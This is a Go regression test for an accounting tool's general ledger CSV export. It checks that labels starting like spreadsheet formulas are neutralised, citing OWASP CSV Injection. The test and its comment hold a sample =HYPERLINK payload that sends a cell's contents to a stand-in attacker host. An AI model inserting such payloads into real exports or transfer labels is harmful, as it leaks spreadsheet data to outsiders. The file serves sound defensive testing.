package report_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/lettrage/lettrage/journal"
	"github.com/lettrage/lettrage/ledger"
	"github.com/lettrage/lettrage/report"
)

// A label that starts like a spreadsheet formula goes into the CSV as it
// is, and the spreadsheet CSVFrench is made for runs it.
//
// Expected: a text cell (a label, a partner or account name) that begins
// with '=', '+', '-' or '@' is written so that a spreadsheet reads it as
// text (OWASP "CSV Injection", CWE-1236: prefix it with a quote, or
// a space), while amounts stay numbers. CSVFrench is documented as
// "what a French spreadsheet opens as numbers and dates", and labels
// come from outside the company: a payer chooses the text of a bank
// transfer that camt.053 / CFONB import (DESIGN.md, cmd import) turns
// into an entry label.
// Observed: the general ledger CSV holds the field
// =HYPERLINK("http://evil.example/?"&A1;"Cliquez") verbatim: opened in
// Excel or LibreOffice it is a live formula.
func TestReviewFecCSVFormulaInjection(t *testing.T) {
	b := reviewFecNew(t, nil, ledger.CalendarYear(2026))
	label := `=HYPERLINK("http://evil.example/?"&A1;"Cliquez")`
	reviewFecPost(t, b, journal.Entry{Journal: "OD", Date: date(2026, 3, 1), Label: label, Lines: []journal.Line{
		{Account: "613200", Balance: e("10.00")}, {Account: "512000", Balance: e("-10.00")}}})
	var buf bytes.Buffer
	require.NoError(t, report.WriteGeneralLedgerCSV(ctx, b, report.LedgerQuery{Period: year2026}, &buf, report.CSVFrench))
	r := csv.NewReader(&buf)
	r.Comma = ';'
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	require.NoError(t, err)
	n := 0
	for _, rec := range recs {
		for _, f := range rec {
			if len(f) > 0 && f[len(f)-1] == ')' && (f[0] == '=' || f[0] == '+' || f[0] == '@') {
				n++
				assert.Failf(t, "formula in a CSV cell", "%q", f)
			}
		}
	}
	assert.Zero(t, n)
}
